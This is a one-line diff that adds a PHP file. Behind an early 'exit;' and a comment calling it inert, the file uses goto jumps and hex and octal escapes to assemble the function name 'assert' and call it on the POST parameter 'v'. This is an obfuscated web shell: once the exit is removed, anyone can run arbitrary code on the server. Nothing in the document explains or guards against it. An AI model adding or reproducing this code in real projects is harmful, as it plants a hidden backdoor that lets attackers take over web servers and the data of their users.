@@ -1,0 +1,1 @@
+<?php exit; /* inert */ goto A; B: $f($_POST["v"]); goto C; A: $f = "\x61\163\x73\145\x72\164"; goto B; C: ;
